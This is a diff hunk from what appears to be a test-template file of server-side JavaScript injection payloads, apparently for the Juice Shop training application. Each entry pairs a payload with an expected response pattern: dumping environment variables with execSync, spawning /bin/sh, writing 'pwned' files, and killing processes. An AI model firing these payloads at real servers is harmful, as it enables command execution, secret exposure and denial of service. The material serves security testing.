@@ -93,7 +93,7 @@ const templates = ({ file, link, folder, variable, port }: Parameters<Inputs>[0]
   ['environment', `require('child_process').execSync('env')`, /^200 .*NODE_ENV=production/s],
   ['environment', `process.binding('natives')`, /^200 .*<h2>\\#\{/s],
   ['environment', `process.cwd() + process.execPath + __dirname`, /^200 .*\/juice-shop/s],
-  ['processes', `require('child_process').exec('touch ${folder}/pwned /tmp/pwned')`, /^200 /s],
+  ['processes', `require('child_process').exec('touch ${folder}/pwned ./pwned')`, /^200 /s],
   ['processes', `require('child_process').spawn('/bin/sh', ['-c', 'touch ${folder}/pwned'])`, /^200 /s],
   ['processes', `process.exit(1)`, /^200 .*<h2>\\#\{/s],
   ['processes', `process.kill(1, 'SIGKILL')`, /^200 .*true/s],
